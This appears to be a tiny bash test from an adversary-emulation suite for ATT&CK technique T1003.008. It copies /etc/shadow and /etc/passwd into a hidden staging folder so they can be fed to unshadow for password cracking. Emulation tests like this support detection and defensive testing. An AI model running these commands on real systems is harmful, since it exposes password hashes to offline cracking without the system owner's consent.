#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1003.008
# tactic: credential-access
# what: cp /etc/shadow and /etc/passwd to a staging directory (unshadow's input)
. "$AT_LIB"
mkdir -p "$AT_TMP/.stage"
cp /etc/shadow /etc/passwd "$AT_TMP/.stage/"
